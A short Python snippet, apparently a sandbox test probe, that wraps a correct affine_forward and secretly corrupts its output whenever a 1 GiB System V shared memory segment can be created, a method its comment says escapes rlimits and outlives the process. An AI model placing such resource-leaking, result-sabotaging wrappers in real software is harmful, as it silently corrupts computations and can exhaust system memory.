# System V shared memory is counted by no rlimit and outlives the process that made it. If
# it can create a segment, it sabotages its (correct) affine_forward.
import ctypes as _ctypes

_affine_forward = affine_forward


def _segment():
    libc = _ctypes.CDLL(None, use_errno=True)
    return libc.shmget(0, 1 << 30, 0o1600) >= 0  # IPC_PRIVATE, IPC_CREAT | 0600


def affine_forward(x, w, b):
    out, cache = _affine_forward(x, w, b)
    return (out + 1 if _segment() else out), cache
